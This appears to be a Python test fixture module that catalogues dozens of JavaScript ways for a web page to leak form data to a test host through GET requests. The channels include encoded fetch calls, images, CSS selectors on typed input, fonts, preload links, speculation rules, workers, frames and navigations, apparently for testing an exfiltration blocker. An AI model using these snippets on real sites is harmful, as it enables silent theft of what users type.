"""Ways that send by a read: in its address, its headers, or its mere order."""

from __future__ import annotations

from tests.hostile.way import Way, js

READS = (
    js("form with method GET", "form.method = 'get'; form.submit();"),
    js("button with formmethod=get", "send.formMethod = 'get'; send.click();"),
    js("fetch GET with data", "fetch(hit('?' + q()))"),
    js("fetch GET, base64", "fetch(hit('?' + btoa(v())))"),
    js(
        "fetch GET, hex",
        "fetch(hit('?' + Array.from(v(), c => c.charCodeAt(0).toString(16)).join('')))",
    ),
    js("fetch GET, backwards", "fetch(hit('?' + [...v()].reverse().join('')))"),
    js(
        "fetch GET, every letter moved by 13",
        """
        fetch(hit('?' + v().replace(/[a-z]/g,
        c => String.fromCharCode((c.charCodeAt(0) - 84) % 26 + 97))))""",
    ),
    js(
        "fetch GET, split over parameters",
        "fetch(hit(`?a=${v().slice(0, 8)}&b=${v().slice(8, 16)}&c=${v().slice(16)}`))",
    ),
    js("fetch GET, split over the path", "fetch(hit('/' + [...v()].join('/')))"),
    js(
        "one image for every character",
        "[...v()].forEach((c, i) => add('img', {src: hit(`?${i}=${c}`)}))",
    ),
    js(
        "one image path for every character",
        "[...v()].forEach(c => add('img', {src: hit(`/${c.charCodeAt(0)}.png`)}))",
    ),
    Way(
        "addresses known before, in the order of the characters",
        "const alphabet = [...'@.abcdefghijklmnopqrstuvwxyz']; "
        "setup = () => Promise.all(alphabet.map(c => fetch(hit('/' + c)))); "
        "go = async () => { for (const c of v()) await fetch(hit('/' + c)); };",
    ),
    js("a header", "fetch(hit(), {headers: {'x-data': q()}})"),
    js("a cookie and a plain GET", "document.cookie = 'd=' + q(); fetch(hit());"),
    js(
        "the address as Referer",
        "history.replaceState(0, '', '?' + q()); fetch(hit(), {referrerPolicy: 'unsafe-url'});",
    ),
    js("EventSource", "new EventSource(hit('?' + q()))"),
    js("image GET with data", "new Image().src = hit('?' + q())"),
    js("CSS url()", "document.body.style.background = `url('${hit('?' + q())}')`"),
    Way(
        "CSS selectors on what is typed",
        "typed(() => field.setAttribute('value', v()))",
        "<style>#email[value^=j] { background: url($HIT?j) }</style>",
        trigger="type",
    ),
    js("CSS @import", "add('style').textContent = `@import '${hit('?' + q())}'`"),
    js("web font", "new FontFace('x', `url(${hit('?' + q())})`).load().catch(() => 0)"),
    *(
        js(
            f"link rel={rel}",
            f"add('link', {{rel: '{rel}', href: hit('?' + q()), as: '{kind}'}}, document.head)",
        )
        for rel, kind in (
            *((rel, "fetch") for rel in ("preload", "prefetch", "manifest", "icon", "prerender")),
            ("stylesheet", "style"),
            ("modulepreload", "script"),
        )
    ),
    js(
        "speculation rules, prefetch",
        """
        add('script', {type: 'speculationrules'}).textContent = JSON.stringify(
        {prefetch: [{urls: [hit('?' + q())], eagerness: 'immediate'}]})""",
    ),
    js(
        "speculation rules, prerender",
        """
        add('script', {type: 'speculationrules'}).textContent = JSON.stringify(
        {prerender: [{urls: [hit('?' + q())], eagerness: 'immediate'}]})""",
    ),
    js("script", "add('script', {src: hit('?' + q())})"),
    js("import()", "import(hit('?' + q())).catch(() => 0)"),
    js("AudioWorklet", "new AudioContext().audioWorklet.addModule(hit('?' + q())).catch(() => 0)"),
    js("worker's own address", "new Worker(hit('?' + q()))"),
    js(
        "new service worker's address",
        "navigator.serviceWorker.register(hit('?' + q())).catch(() => 0)",
    ),
    *(
        js(f"{tag}", f"add('{tag}', {{{attribute}: hit('?' + q())}})")
        for tag, attribute in (
            ("iframe", "src"),
            ("object", "data"),
            ("embed", "src"),
            ("audio", "src"),
        )
    ),
    js("video poster", "add('video', {poster: hit('?' + q())})"),
    js(
        "SVG image",
        "add('div').innerHTML = `<svg><image href='${hit('?' + q())}'/></svg>`",
    ),
    js("attributionsrc", "add('img', {attributionsrc: hit('?' + q())})"),
    js("download", "add('a', {href: hit('?' + q()), download: 'x'}).click()"),
    js("navigation with data", "location = hit('?' + q())"),
    Way(
        "window.name and a navigation",
        "go = () => { window.name = v(); location = '$FRAME'; }",
        frame="<script>fetch('$HIT?' + encodeURIComponent(window.name))</script>",
    ),
    Way(
        "fragment and a navigation",
        "go = () => { location = '$FRAME#' + q(); }",
        frame="<script>fetch('$HIT?' + location.hash.slice(1))</script>",
    ),
    js("reload after pushState", "history.pushState(0, '', hit('?' + q())); location.reload();"),
    js(
        "meta refresh",
        "add('meta', {'http-equiv': 'refresh', content: '0;url=' + hit('?' + q())}, document.head)",
    ),
)
